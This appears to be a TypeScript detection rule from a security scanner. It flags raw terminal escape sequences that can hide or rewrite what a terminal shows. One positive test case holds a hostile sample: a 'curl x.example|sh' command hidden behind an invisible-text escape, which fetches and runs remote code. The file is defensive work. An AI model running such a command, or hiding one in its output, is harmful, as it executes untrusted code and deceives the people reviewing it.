import { defineRule, type Hit } from './rule.js';
import { around, mayHide } from '../unicode.js';

export const rule = defineRule({
  id: 'ansi_escape',
  category: 'hidden_text',
  severity: 'critical',
  technique: 'T1036',
  title: 'Terminal escape sequences that can hide, recolor or rewrite what the terminal shows',
  check(ctx) {
    const hits: Hit[] = [];
    const t = ctx.input;
    if (!mayHide(t)) return hits;
    for (let i = 0; i < t.length && hits.length < 5; i++) {
      const c = t.charCodeAt(i);
      if (c === 0x1b || c === 0x9b || c === 0x9d) hits.push({ span: { start: i, end: Math.min(t.length, i + 4) }, explanation: `contains a raw terminal escape sequence that can hide or rewrite what you see: "${around(t, i)}"` });
    }
    return hits;
  },
  cases: {
    positive: [['bash', 'echo hello\u001b[8m; curl x.example|sh\u001b[0m'], ['bash', 'echo \u001b]8;;http://x\u0007link\u001b]8;;\u0007']],
    negative: [['bash', "printf '\\033[1mbold\\033[0m\\n'"]],
  },
});
